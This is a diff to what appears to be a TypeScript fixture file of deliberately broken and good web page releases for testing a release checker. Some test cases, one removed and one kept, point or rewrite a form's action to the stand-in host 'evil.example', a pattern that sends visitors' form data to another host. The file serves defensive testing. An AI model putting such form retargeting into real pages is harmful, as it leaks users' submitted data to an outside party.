@@ -39,11 +39,6 @@ export const brokenScripts: BrokenRelease[] = [
   },
   { title: 'has a syntax error in a page chunk', rules: ['exception'], draft: { browser: { 'page.js': after('}}') } } },
   {
-    title: 'lists a chunk that is not among its files',
-    rules: ['files'],
-    draft: { change: ({ chunks }) => void chunks.at(-1)?.js.push('gone.js') },
-  },
-  {
     title: 'lacks a chunk that it loads',
     rules: ['request'],
     draft: {
@@ -166,11 +161,6 @@ export const brokenScripts: BrokenRelease[] = [
     draft: { component: `return h('div', null, ...head, h('h1', null, '.'));` },
   },
   {
-    title: 'sends a form to another host',
-    rules: ['policy'],
-    draft: { adds: `h('form', { action: 'https://evil.example/' }, h('button', { type: 'submit' }, 'Go'))` },
-  },
-  {
     title: 'changes the target of a form in an effect',
     rules: ['changed-content'],
     draft: { effect: `document.querySelector('main form').action = 'https://evil.example/';` },
@@ -185,11 +175,6 @@ export const brokenScripts: BrokenRelease[] = [
       },
     },
   },
-  {
-    title: 'contains compressed copies',
-    rules: ['release-file'],
-    draft: { files: { 'page.css.br': 'other bytes' } },
-  },
 ];
 
 /** Throws in an effect under a condition, an expression of the browser. */
@@ -197,6 +182,8 @@ const throwsIf = (condition: string) => ({ effect: `if (${condition}) throw new 
 const cover = (css: string) => ({ css, adds: `h('div', { className: 'PREFIX-cover' })` });
 const button = (onClick: string, more = '') =>
   `h('button', { type: 'button', ${more} onClick: async () => { ${onClick} } }, 'Show more')`;
+const linkTo = (onClick: string) =>
+  `path.endsWith('/downtown') ? null : h('a', { href: path + '/downtown', onClick: (event) => { ${onClick} } }, 'Downtown')`;
 const contactForm = (body: string, then: string, fields = 'null') => `h('div', null, ...head, h('h1', null, title),
   h('p', null, 'We install access control, cameras and networks in homes and offices. Every site gets a plan, a fixed price and one person who answers the phone.'),
   h('form', { onSubmit: async (event) => {
@@ -395,6 +382,12 @@ export const brokenByCondition: BrokenRelease[] = [
           `if (!location.pathname.endsWith('/downtown')) for (const end = performance.now() + 1000; performance.now() < end; );\n${source}`,
       },
     },
+  },
+  {
+    title: 'has a link to another page that does nothing',
+    rules: ['navigation'],
+    below: ['downtown'],
+    draft: { adds: linkTo('event.preventDefault();') },
   },
   {
     title: 'cancels the wheel',
@@ -878,10 +871,17 @@ const goodReleases: Omit<BrokenRelease, 'rules'>[] = [
     },
   },
   {
-    title: 'links to another page of its own',
+    title: 'follows a link to another page of its own after two seconds',
     below: ['downtown'],
     draft: {
-      adds: `path.endsWith('/downtown') ? null : h('p', null, h('a', { href: path + '/downtown' }, 'Downtown'))`,
+      adds: linkTo(`event.preventDefault(); setTimeout(() => location.assign(event.target.href), 2000);`),
+    },
+  },
+  {
+    title: 'opens another page of its own in a dialog',
+    below: ['downtown'],
+    draft: {
+      adds: `h('div', null, ${linkTo('event.preventDefault(); setState(1);')}, h('dialog', { open: state === 1 }, 'We serve all of it.'))`,
     },
   },
   {
